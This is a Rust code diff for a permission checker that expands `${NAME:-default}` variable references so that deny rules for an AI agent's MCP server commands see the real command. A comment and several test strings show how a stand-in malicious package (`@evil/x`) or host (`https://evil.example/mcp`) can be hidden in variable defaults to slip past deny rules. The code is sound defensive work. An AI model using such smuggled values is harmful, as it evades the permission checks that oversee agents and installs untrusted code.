@@ -1,39 +1,79 @@
-//! A text as a client hands it on when nothing is set that it refers to. Only denials read it so: a rule that allows
-//! judges the reference itself.
+//! A text as a client or shell hands it on when nothing is set that it refers to. Only denials read it so: a rule that
+//! allows judges the reference itself.
 //!
 //! Attack: `npx -p '${X:-@evil/x}' …` under a rule for anything. Claude Code 2.1.197 puts the default in the place of the
 //! reference before it starts the server.
 
-/// References that are filled in in one text. What is beyond stays as written.
-const MAX_REFERENCES: usize = 64;
+/// How deeply references may stand in each other to be filled in.
+const MAX_DEPTH: usize = 16;
 
-/// The text with each `${NAME:-default}` as its default, and each `${NAME}` as nothing, from the innermost on. `None` if
-/// there is none.
-pub(super) fn filled(text: &str) -> Option<String> {
+/// The text with each `${NAME:-default}` as its default, and each `${NAME}` as nothing, in the two ways in which that is
+/// read: with references in references, as shells do, and each up to the first `}`, as clients do. Nothing if there is none.
+pub(super) fn filled(text: &str) -> impl Iterator<Item = String> {
     // every text of every entry comes by here
-    if !text.as_bytes().contains(&b'$') {
-        return None;
-    }
-    let mut plain = fill_last(text)?;
-    for _ in 1..MAX_REFERENCES {
-        let Some(next) = fill_last(&plain) else { break };
-        plain = next;
-    }
-    Some(plain)
+    let has_any = text.as_bytes().contains(&b'$') && text.contains("${");
+    has_any.then(|| [nested(text), flat(text)]).into_iter().flatten().filter(move |plain| plain != text)
 }
 
-/// The text with its last reference filled in: none stands inside of that one.
-fn fill_last(text: &str) -> Option<String> {
-    let mut end = text.len();
-    loop {
-        let start = text[..end].rfind("${")?;
-        let inner = &text[start + 2..];
-        // What is not closed is no reference, but one before it may be.
-        if let Some(close) = inner.find('}') {
-            return Some(format!("{}{}{}", &text[..start], default(&inner[..close]), &inner[close + 1..]));
+/// Whether references stand in each other more deeply than is filled in.
+pub(super) fn has_more(text: &str) -> bool {
+    let mut depth = 0_usize;
+    text.as_bytes().windows(2).any(|pair| {
+        match pair {
+            b"${" => depth += 1,
+            [b'}', _] => depth = depth.saturating_sub(1),
+            _ => {}
         }
-        end = start;
+        depth > MAX_DEPTH
+    })
+}
+
+/// From the innermost on. What is not closed, or too deep, stays as written.
+fn nested(text: &str) -> String {
+    // what was read so far of the text, and of each reference that is open
+    let mut open = vec![String::with_capacity(text.len())];
+    let mut rest = text;
+    while let Some(at) = rest.find(['$', '}']) {
+        let (plain, here) = rest.split_at(at);
+        let used = match here.strip_prefix("${") {
+            Some(_) if open.len() <= MAX_DEPTH => 2,
+            Some(_) => 0,
+            None => 1,
+        };
+        if let Some(last) = open.last_mut() {
+            last.push_str(plain);
+        }
+        match (used, here.starts_with('}'), open.len()) {
+            (2, ..) => open.push(String::new()),
+            (1, true, 2..) => {
+                let inner = open.pop().unwrap_or_default();
+                open.iter_mut().last().into_iter().for_each(|last| last.push_str(default(&inner)));
+            }
+            _ => open.iter_mut().last().into_iter().for_each(|last| last.push_str(&here[..1])),
+        }
+        rest = &here[used.max(1)..];
     }
+    let mut plain = open.join("${");
+    plain.push_str(rest);
+    plain
+}
+
+/// Each from its `${` up to the first `}`.
+fn flat(text: &str) -> String {
+    let mut plain = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some((before, behind)) = rest.split_once("${") {
+        plain.push_str(before);
+        let Some((inner, after)) = behind.split_once('}') else {
+            plain.push_str("${");
+            rest = behind;
+            break;
+        };
+        plain.push_str(default(inner));
+        rest = after;
+    }
+    plain.push_str(rest);
+    plain
 }
 
 /// What stands behind the name in a reference: `X:-y`, `X-y`, `X:=y`, `X:+y` and their like.
@@ -47,7 +87,13 @@ fn default(inner: &str) -> &str {
 
 #[cfg(test)]
 mod tests {
+    use proptest::prelude::*;
+
     use super::*;
+
+    fn all(text: &str) -> Vec<String> {
+        filled(text).collect()
+    }
 
     #[test]
     fn a_reference_becomes_its_default_and_one_without_becomes_nothing() {
@@ -57,22 +103,39 @@ mod tests {
             ("@ev${X}il/x", "@evil/x"),
             ("${X-a}${Y:=b}${Z:+c}${V-d-e}", "abcd-e"),
             ("${env:X}a${input:b}", "a"),
-            ("${a ${X:-b}", "${a b"),
             ("${X:-a} ${b", "a ${b"),
+            // Claude Code reads up to the first brace that closes
+            ("npx ${A:-@evil/x #${}", "npx @evil/x #${"),
+            ("${A:-https://evil.example/mcp#${}", "https://evil.example/mcp#${"),
+            ("${X:-\u{e9}}\u{e9}$", "\u{e9}\u{e9}$"),
         ] {
-            assert_eq!(filled(text).as_deref(), Some(expected), "{text}");
+            assert!(all(text).iter().any(|plain| plain == expected), "{text}: {:?}", all(text));
         }
         for text in ["", "$X", "{a}", "${a", "a}", "$ {a}"] {
-            assert_eq!(filled(text), None, "{text}");
+            assert_eq!(all(text), Vec::<String>::new(), "{text}");
         }
     }
 
     #[test]
-    fn no_more_references_are_filled_in_than_the_limit() {
-        let text = "${X:-a}".repeat(MAX_REFERENCES + 1);
-        assert_eq!(
-            filled(&text).as_deref(),
-            Some(format!("${{X:-a}}{}", "a".repeat(MAX_REFERENCES)).as_str())
-        );
+    fn many_references_are_all_filled_in_and_too_deep_ones_are_told() {
+        let many = format!("${{X:-@evil/x}}{}", "${Z:-}".repeat(100_000));
+        assert_eq!(all(&many)[0], "@evil/x");
+        assert!(!has_more(&many));
+        let deep = |depth: usize| format!("{}a{}", "${X:-".repeat(depth), "}".repeat(depth));
+        assert!(!has_more(&deep(MAX_DEPTH)) && has_more(&deep(MAX_DEPTH + 1)));
+        assert_eq!(all(&deep(MAX_DEPTH))[0], "a");
+        assert!(has_more(&deep(200_000)));
+        let begin = std::time::Instant::now();
+        let _ = all(&deep(200_000));
+        assert!(begin.elapsed().as_secs() < 5);
+    }
+
+    proptest! {
+        #[test]
+        fn no_text_ends_it_and_without_references_nothing_changes(text in "(\\$|\\{|\\}|X|:-|a|\u{e9}){0,30}") {
+            let texts = all(&text);
+            let refers = text.contains("${");
+            prop_assert!(refers || texts.is_empty());
+        }
     }
 }
